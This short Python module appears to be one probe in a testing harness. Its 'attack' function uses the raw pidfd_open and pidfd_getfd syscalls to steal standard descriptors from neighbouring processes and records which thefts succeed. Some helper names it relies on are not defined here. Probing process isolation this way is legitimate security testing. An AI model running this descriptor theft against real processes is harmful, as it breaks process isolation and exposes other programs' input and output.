"""Copy open descriptors out of the processes around it with pidfd_getfd."""

import os

CONTROL = "root"


async def attack(agent, message, ctx, targets):
    found = []
    for pid in relatives(targets):
        process = attempt(syscall, 434, pid, 0)
        for number in range(0, 3) if process is not None else ():
            stolen = attempt(syscall, 438, process, number, 0)
            if stolen is not None:
                found.append((pid, number))
                os.close(stolen)
        if process is not None:
            os.close(process)
    return found
